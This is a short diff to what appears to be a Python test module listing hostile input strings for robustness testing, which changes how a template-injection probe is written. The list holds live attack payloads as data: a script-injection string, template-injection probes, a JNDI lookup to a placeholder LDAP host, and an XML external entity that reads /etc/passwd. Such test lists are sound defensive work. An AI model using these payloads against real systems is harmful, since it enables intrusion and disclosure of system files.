@@ -2,8 +2,8 @@
 numbers, dates, queries, markup, headers, paths, formulas and patterns. Our own list, so that each
 line has a reason."""
 
-TO_BE_WORKED_OUT = "70707*19191"
-WORKED_OUT = b"1356938037"  # so long that no random number of an answer holds it by chance
+# Of "template": so long that no random number of an answer holds it by chance
+WORKED_OUT = b"1356938037"
 WORDS: dict[str, str] = {
     "nothing": "",
     "blanks": " \t\u00a0\u2003\u200b\ufeff",
@@ -53,8 +53,7 @@ WORDS: dict[str, str] = {
     "full text": '"a OR b* NEAR(c) AND ( NOT ^d:e -',
     "tsquery": "a & | ! <-> 'b':*C (",
     "script": '"><script>alert(1)</script><svg/onload=alert(1)>',
-    "template": f"{{{{ {TO_BE_WORKED_OUT} }}}}{{% debug %}}${{{TO_BE_WORKED_OUT}}}"
-    f"#{{{TO_BE_WORKED_OUT}}}",
+    "template": "{{ 70707*19191 }}{% debug %}${70707*19191}#{70707*19191}",
     "format": "%s %(day)s %n {0} {0.__class__}",
     "look-up of logs": "${jndi:ldap://x.invalid/a}",
     "xml": "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
